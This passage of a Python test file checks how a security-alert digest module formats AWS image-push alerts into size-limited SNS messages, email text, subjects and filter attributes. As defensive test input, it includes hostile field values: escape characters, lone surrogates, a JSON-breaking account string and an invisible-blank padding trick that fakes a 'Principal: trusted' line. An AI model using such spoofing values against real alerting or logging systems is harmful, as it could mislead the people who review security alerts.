    assert len(detailed(text)) < DETAIL_MAX  # the larger styles did not fit
    whole = {a.who() for a in alerts}
    for line in text.splitlines():
        if line.strip() in whole:  # an allowlist entry is copied whole (2,048 at most)
            assert len(line) <= 4 + 2048
        else:
            assert char * (VALUE_MAX + 1) not in line
    assert_safe_text(text)
    message = digest.message(alerts, context=context)
    assert email(message) == text
    assert sns_size(message) <= LIMIT
    assert_adds_up(body(message), alerts)


def test_the_smallest_style_fits_the_worst_single_principal() -> None:
    big = "😀\\\x1b" * 20_000
    f = finding(
        f"arn:aws:iam::{ACCOUNT}:user/{big}",
        user_agent=big,
        src_ip=big,
        region=big,
        account=big,
        pushed=[f"{j}{big}" for j in range(50)],
        repositories=[],
        tags=[f"{j}{big}" for j in range(50)],
    )
    text = digest.email_text([one(f)], context={big: big})
    assert escaped_size(text) <= EMAIL_BUDGET
    assert sns_size(digest.message([one(f)], context={big: big})) <= LIMIT


def test_a_normal_email_uses_the_largest_style() -> None:
    alerts = rollup(finding(f"{CONTRACTOR}-{i}") for i in range(25))
    text = digest.email_text(alerts)
    assert detailed(text) == list(range(1, DETAIL_MAX + 1))
    assert "And 5 more principal(s) (25 PutImage call(s), 5 with a successful push)." in flat(text)


# --- JSON body and attributes ----------------------------------------------------------------


def test_json_body_is_the_document_at_the_largest_step() -> None:
    alerts = three()
    context = {"function": "f", "request_id": "r-1"}
    message = digest.message(alerts, context=context)
    doc = body(message)
    expected = digest.document(
        alerts,
        digest.LEVELS[0],
        alert_count=3,
        finding_count=3,
        context=context,
        **digest.routing(digest.attributes(alerts)),  # for filter policies on the body
    )
    assert doc == json.loads(json.dumps(expected))
    assert (doc["severity"], doc["pushed"]) == ("medium", True)
    assert json.loads(digest.json_body(alerts)) == json.loads(json.dumps(digest.document(alerts)))
    assert doc["detection"]["id"] == DETECTION.id
    assert [r["principal"] for r in doc["alerts"]] == [
        CONTRACTOR,
        ROLE,
        "codebuild.amazonaws.com",
    ]
    for rec, alert in zip(doc["alerts"], alerts, strict=True):
        assert list(rec)[: len(ALERT_KEYS)] == ALERT_KEYS
        assert rec["alert_id"] == alert.id and rec["reason"] == NEW
        for name in SAMPLE_NAMES:
            assert set(rec[name]) == {"values", "total"}
            assert isinstance(rec[name]["values"], list) and isinstance(rec[name]["total"], int)
        assert rec["findings"]["total"] == rec["groups"] == 1
        for f in rec["findings"]["values"]:
            assert list(f)[: len(JSONL_KEYS)] == JSONL_KEYS
        assert set(rec["truncated"]) == {
            *SAMPLE_NAMES,
            *alerts_mod.ADDED_SAMPLES,
            *(s.name for s in DETECTION.extra_samples),
            "error_codes",
            "findings",
            "text",
        }
        assert all(isinstance(v, bool) for v in rec["truncated"].values())
        assert rec["detection_id"] == DETECTION.id and rec["severity"] == DETECTION.severity
    assert doc["alerts"][0]["firstTime"] == "2024-05-01T10:00:00"
    assert doc["alerts"][1]["sessions"] == {"values": [SESSION], "total": 1}


def test_attributes_for_filter_policies() -> None:
    alerts = [*three(), one(finding(f"{CONTRACTOR}-x", account=None, region=None))]
    attrs = digest.attributes(alerts)
    assert attrs["severity"] == {"DataType": "String", "StringValue": "medium"}
    assert attrs["detection_id"] == {"DataType": "String", "StringValue": DETECTION.id}
    assert attrs["alert_count"] == {"DataType": "Number", "StringValue": "4"}
    assert attrs["finding_count"] == {"DataType": "Number", "StringValue": "4"}
    assert attrs["pushed"] == {"DataType": "String", "StringValue": "true"}
    assert attrs["account_ids"]["DataType"] == "String.Array"
    assert json.loads(attrs["account_ids"]["StringValue"]) == [ACCOUNT, OTHER_ACCOUNT]
    assert json.loads(attrs["regions"]["StringValue"]) == ["eu-west-1", "us-east-1"]
    for name, attr in attrs.items():
        assert name.isidentifier() and len(name) <= 256
        assert attr["DataType"] in {"String", "String.Array", "Number"}
        assert attr["StringValue"]
        attr["StringValue"].encode("ascii")
    failed_only = one(finding(succeeded=0, failed=5))
    assert digest.attributes([failed_only])["pushed"]["StringValue"] == "false"


def test_attributes_escape_and_bound_hostile_values() -> None:
    attrs = digest.attributes([one(finding(account='1"]\n', region="\x1b😀"))])
    assert json.loads(attrs["account_ids"]["StringValue"]) == ['1"]\n']
    assert json.loads(attrs["regions"]["StringValue"]) == ["\x1b😀"]
    assert all(" " <= ch <= "~" for a in attrs.values() for ch in a["StringValue"])
    many = rollup(
        finding(account=f"{i:012d}" + "x" * 100, region=f"r{i}-" + "y" * 100) for i in range(200)
    )
    attrs = digest.attributes(many)
    for name in ("account_ids", "regions"):
        values = json.loads(attrs[name]["StringValue"])
        assert len(values) == digest.ATTRIBUTE_VALUES_MAX
        assert all(len(v) <= digest.ATTRIBUTE_VALUE_MAX for v in values)


# --- the message -----------------------------------------------------------------------------


def test_one_message_when_it_fits() -> None:
    alerts = three()
    context = {"function": "f", "request_id": "r-1"}
    message = digest.message(alerts, context=context)
    env = envelope(message)
    assert set(env) == {"default", "email"}
    assert env["email"] == digest.email_text(alerts, context=context)
    assert message.subject == digest.subject(alerts)
    assert message.attributes == digest.attributes(alerts)
    assert message.alert_count == message.alerts_in_body == 3
    doc = body(message)
    assert doc["context"] == context
    assert_adds_up(doc, alerts)
    assert "omitted" not in doc
    assert sns_size(message) <= message.size <= sns_size(message) + 200
    assert sns_size(message) < SNS_LIMIT
    # ASCII JSON body: control, bidi and line-separator characters are \u escapes.
    assert env["default"].isascii()


def test_the_largest_step_that_fits_is_used() -> None:
    values = [f"{j:03d}" + "v" * 300 for j in range(50)]
    alerts = rollup(
        finding(f"{CONTRACTOR}-{i}", pushed=[], repositories=values, tags=values) for i in range(40)
    )
    message = digest.message(alerts)
    doc = body(message)
    assert "omitted" not in doc and len(doc["alerts"]) == 40
    step = digest.LEVELS[2]
    assert {len(r["repositories"]["values"]) for r in doc["alerts"]} == {step.values}
    assert doc["alerts"][0]["repositories"]["values"][0] == values[0][: step.text - 1] + "…"
    assert all(r["truncated"]["text"] for r in doc["alerts"])
    # The step before would not have fitted.
    bigger = json.dumps(digest.document(alerts, digest.LEVELS[1]))
    assert len(json.dumps(bigger)) + escaped_size(email(message)) > LIMIT
    assert sns_size(message) <= LIMIT


def test_a_smaller_limit_omits_with_exact_counts() -> None:
    alerts = rollup(finding(f"{CONTRACTOR}-{i}", count=i + 1, succeeded=i % 2) for i in range(60))
    roomy = body(digest.message(alerts))
    assert len(roomy["alerts"]) == 60 and "omitted" not in roomy
    assert len(roomy["alerts"][0]["findings"]["values"]) == 1
    message = digest.message(alerts, max_bytes=50_000)
    assert sns_size(message) <= 50_000 - digest.HEADROOM
    doc = body(message)
    assert_adds_up(doc, alerts)
    assert 0 < message.alerts_in_body == len(doc["alerts"]) < 60
    assert doc["omitted"]["alerts"] == 60 - len(doc["alerts"])
    # Minimal alerts: totals, no samples.
    assert doc["alerts"][0]["repositories"]["values"] == []
    assert doc["alerts"][0]["repositories"]["total"] == 2
    # As many as fit: one more would not (its record, the ", " before it, shorter counts).
    shown = len(doc["alerts"])
    next_one = alerts[shown]
    record = json.dumps(next_one.to_record(digest.LEVELS[-1]))
    fewer = {
        "alerts": doc["omitted"]["alerts"] - 1,
        "pushes": doc["omitted"]["pushes"] - next_one.count,
        "why": doc["omitted"]["why"],
    }
    delta = len(json.dumps(fewer)) - len(json.dumps(doc["omitted"]))
    # ``Message.size`` is what the limit is checked against (a little more than sns_size).
    with_one_more = message.size + len(json.dumps(record)) - 2 + 2 + delta
    assert with_one_more > 50_000 - digest.HEADROOM


def test_a_message_too_small_for_the_email_is_refused() -> None:
    with pytest.raises(ValueError, match="cannot hold"):
        digest.message([one(finding(user_agent="U" * 100_000))], max_bytes=8_000)


def test_lone_surrogates_and_emoji_are_sized_in_bytes() -> None:
    alerts = rollup(finding(f"{CONTRACTOR}-{i}", user_agent="😀\ud800" * 3000) for i in range(40))
    message = digest.message(alerts, max_bytes=100_000)
    message.message.encode("utf-8")  # encodable: the body is ASCII JSON, the email escaped
    assert sns_size(message) <= 100_000 - digest.HEADROOM
    assert_adds_up(body(message), alerts)


def test_email_shows_a_bounded_list_and_says_when_samples_were_capped() -> None:
    f = finding(pushed=[], repositories=[f"repo-{i:02d}" for i in range(60)])
    text = flat(digest.email_text([one(f)]))
    assert "Repositories (50+): repo-00, repo-01, repo-02, repo-03, repo-04" in text
    assert "(+45 more, and others not kept)" in text
    small = flat(digest.email_text([one(finding(pushed=[], repositories=["a", "b", "c"]))]))
    assert "not kept" not in small and "more)" not in small
    six = [f"r{i}" for i in range(6)]
    assert "(+1 more)" in digest.email_text([one(finding(pushed=[], repositories=six))])


def test_subject_tells_another_accounts_role_of_the_same_name_apart() -> None:
    """Another account's ci-deployer must not read like the trusted CI role."""
    ours = one(finding("arn:aws:iam::111122223333:role/ci-deployer"))
    theirs = one(finding("arn:aws:iam::999988887777:role/ci-deployer"))
    assert digest.subject([theirs]).endswith(": ci-deployer (999988887777)")
    assert digest.subject([ours]) != digest.subject([theirs])


@pytest.mark.parametrize("blank", ["\u2800", "\u3164", "\uffa0", "\u115f", "\u1160"])
def test_printable_blanks_are_collapsed_like_spaces(blank: str) -> None:
    """Characters that print as nothing pad a line as spaces do: one blank, whatever the run."""
    assert _clean(f"evil{blank * 300}Principal: trusted") == "evil Principal: trusted"
